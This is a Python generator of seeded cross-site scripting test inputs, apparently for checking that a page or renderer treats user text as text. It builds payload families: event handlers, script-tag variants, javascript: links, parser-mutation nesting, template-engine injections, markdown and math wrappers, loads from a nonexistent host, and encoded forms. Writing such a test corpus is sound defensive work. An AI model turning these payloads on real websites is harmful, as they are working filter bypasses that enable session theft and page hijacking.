"""Texts that try to become script: families of what got through somewhere, varied by seed.

Each calls `hit(...)`, or asks a host that does not exist; a page that did neither took it as text.
"""

import random
from collections.abc import Callable
from itertools import cycle

HOST = "outside.invalid"
RUN = ("hit(1)", "window['hit'](1)", "top.hit`1`", "[1].map(hit)", "eval('hit(1)')")
TAGS = ("img", "svg", "video", "audio", "body", "details", "input", "marquee", "iframe", "object")
TAGS += ("math", "a", "p", "select", "xss", "style", "link", "image", "animate", "form")
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onpointerenter", "onanimationstart")
EVENTS += ("onbegin", "onmouseover", "oncontentvisibilityautostatechange", "onclick")
HOLDERS = ("math", "svg", "mtext", "style", "title", "noscript", "template", "textarea", "xmp")
HOLDERS += ("table", "select", "foreignObject", "annotation-xml", "desc", "form", "mglyph")
SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "&#106;avascript:", "javascript&colon;")
SCHEMES += ("\x01javascript:", "data:text/html,<script>", "vbscript:", "javascript\u2028:", "blob:")
SPACES = (" ", "/", "\t", "\n", "\x0c", "/**/", " x=1 ", "\u3000")
QUOTES = ("", '"', "'", "`")
Family = Callable[[random.Random], str]


def handler(pick: random.Random) -> str:
    tag, event, quote = pick.choice(TAGS), pick.choice(EVENTS), pick.choice(QUOTES)
    space = pick.choice(SPACES)
    return f"<{tag}{space}src=x{space}tabindex=1 autofocus {event}={quote}{run(pick)}{quote}>"


def script(pick: random.Random) -> str:
    head = pick.choice(("<script", "<ScRiPt", "<script/x", "<<script", "<\x00script", "<p><script"))
    end = pick.choice(("</script>", "</script x>", ""))
    return f"{head}{pick.choice(SPACES)}>{run(pick)}{end}"


def fetched(pick: random.Random) -> str:
    return pick.choice(
        (
            f"<img src=//{HOST}/a>",
            f"![a](https://{HOST}/b.png)",
            f'<link rel="stylesheet" href="//{HOST}/c">',
            f"<style>@import url(//{HOST}/d);*{{background:url(//{HOST}/e)}}</style>",
            f'<p style="background:url(//{HOST}/f)">a</p>',
            f"<video poster=//{HOST}/g><source src=//{HOST}/h></video>",
            f"<img srcset='//{HOST}/i 1x, //{HOST}/j 2x'>",
            f"<meta http-equiv=refresh content='0;url=//{HOST}/k'>",
            f"<base href=//{HOST}/><img src=l>",
            f"<svg><image href=//{HOST}/m /><use href=//{HOST}/n#a /></svg>",
            f"<iframe src=//{HOST}/o></iframe><object data=//{HOST}/p></object>",
            f"[a]: //{HOST}/q\n\n![a]",
            f"<link rel=prefetch href=//{HOST}/r><link rel=dns-prefetch href=//{HOST}>",
        )
    )


def mutated(pick: random.Random) -> str:
    """Nest what parsers disagree about, so that a second parse would see another tree."""
    opened = "".join(f"<{pick.choice(HOLDERS)}>" for _ in range(pick.randint(1, 4)))
    hidden = pick.choice(("<!--", "<![CDATA[", "", "<a title=&quot;"))
    return f"{opened}{hidden}</{pick.choice(HOLDERS)}>{inner(pick)}"


def linked(pick: random.Random) -> str:
    address = pick.choice(SCHEMES) + run(pick)
    return pick.choice(
        (
            f"[x]({address})",
            f"[x](<{address}>)",
            f"[x]: {address}\n\n[x]",
            f"<{address}>",
            f"![x]({address})",
            f'<a href="{address}">x</a>',
            f"<form action='{address}'><button>x</button></form>",
            f"<svg><a xlink:href='{address}'><text>x</text></a></svg>",
            f"<iframe src='{address}'></iframe>",
            f"[x]({address} 'title')",
        )
    )


def broken_out(pick: random.Random) -> str:
    """End the attribute, element or string that the text was put into."""
    ways = ('">', "'>", "`>", "-->", "]]>", "</title>", "</textarea>", "</script>", "*/")
    return f"{pick.choice(ways)}{inner(pick)}"


def templated(pick: random.Random) -> str:
    """Ask for the languages that the portal itself is written in."""
    return pick.choice(
        (
            "{{constructor.constructor('%s')()}}",
            "{{_Vue.h.constructor`%s`()}}",
            "${%s}",
            "@:{'%s'}",
            "{ %s }",
            "<div v-html=\"'<img src=x onerror=%s>'\"></div>",
            "<xss @focus=%s autofocus tabindex=1>",
            "#{%s}",
            "<%%= %s %%>",
        )
    ) % run(pick)


def set_as_formula(pick: random.Random) -> str:
    return pick.choice(
        (
            "$\\href{javascript:%s}{x}$",
            "$$\\url{javascript:%s}$$",
            "$\\htmlData{onclick=%s}{x}$",
            '$\\class{x" onclick=%s}{y}$',
            "$\\text{<img src=x onerror=%s>}$",
            "$\\includegraphics{//" + HOST + "/t?%s}$",
            "```html\n<img src=x onerror=%s>\n```",
            '```x" onclick=%s\ncode\n```',
            "```python\n</code></pre><img src=x onerror=%s>\n```",
            "- [x] <img src=x onerror=%s>",
            "[^1]\n\n[^1]: <svg onload=%s>",
            "| a |\n|---|\n| <img src=x onerror=%s> |",
        )
    ) % run(pick)


def disguised(pick: random.Random) -> str:
    """Write the same in characters that some part may decode."""
    text = inner(pick)
    way = pick.randrange(5)
    if way == 0:
        return text.replace("<", "&lt;").replace(">", "&gt;")
    if way == 1:
        return text.replace("<", "\uff1c").replace(">", "\uff1e")
    if way == 2:
        return "".join(f"&#x{ord(letter):x};" if letter in "<>" else letter for letter in text)
    if way == 3:
        return text.replace("<", "\\u003c").replace(">", "\\x3e")
    return text.replace("<", "%3C").replace(">", "%3E") + "\x1b[31m\x1b]8;;javascript:hit(1)\x07"


def run(pick: random.Random) -> str:
    return pick.choice(RUN)


def inner(pick: random.Random) -> str:
    return pick.choice((handler, script, fetched))(pick)


FAMILIES: tuple[Family, ...] = (
    handler,
    script,
    fetched,
    mutated,
    linked,
    broken_out,
    templated,
    set_as_formula,
    disguised,
)


def payloads(count: int, seed: int) -> list[str]:
    """Return so many different texts, from every family in turn; the same for the same seed."""
    pick = random.Random(seed)
    found: dict[str, None] = {}
    turns = cycle(FAMILIES)
    while len(found) < count:
        found[next(turns)(pick)] = None
    return list(found)
